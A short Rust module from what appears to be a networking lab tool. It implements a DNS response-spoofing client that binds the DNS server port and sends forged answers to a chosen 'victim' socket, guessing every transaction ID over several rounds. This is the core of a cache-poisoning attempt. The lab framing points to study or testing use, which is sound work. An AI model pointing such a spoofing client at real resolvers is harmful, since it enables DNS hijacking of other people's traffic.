//! `lab client forge`: sends answers nobody asked it for to somebody else's socket,
//! one for each id that it guesses.

use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::thread::sleep;
use std::time::Duration;

use anyhow::Result;
use serde::{Deserialize, Serialize};

use super::message::{self, QueryType};
use super::query::PORT;
use super::report::Report;
use crate::lab::server::NAME;

/// Whom to answer, and how often.
#[derive(Clone, Debug, clap::Args, Serialize, Deserialize)]
pub struct Args {
    /// The socket to send to.
    #[arg(long)]
    pub victim: SocketAddr,
    /// Ids to guess: from 0 to below this one.
    #[arg(long)]
    pub ids: u16,
    /// How often all of them are sent.
    #[arg(long)]
    pub rounds: u16,
    /// Pause after each time, milliseconds.
    #[arg(long, default_value_t = 10)]
    pub interval_ms: u64,
}

/// Send from the port of a DNS server; the report counts the answers sent.
pub fn run(args: &Args) -> Result<Report> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, PORT))?;
    let mut report = Report::default();
    for _ in 0..args.rounds {
        for id in 0..args.ids {
            let mut answer = message::query(id, NAME, QueryType::A, None)?;
            // An answer, and recursion is available.
            answer[2] |= 0x80;
            answer[3] |= 0x80;
            socket.send_to(&answer, args.victim)?;
            report.sent += 1;
        }
        sleep(Duration::from_millis(args.interval_ms));
    }
    Ok(report)
}
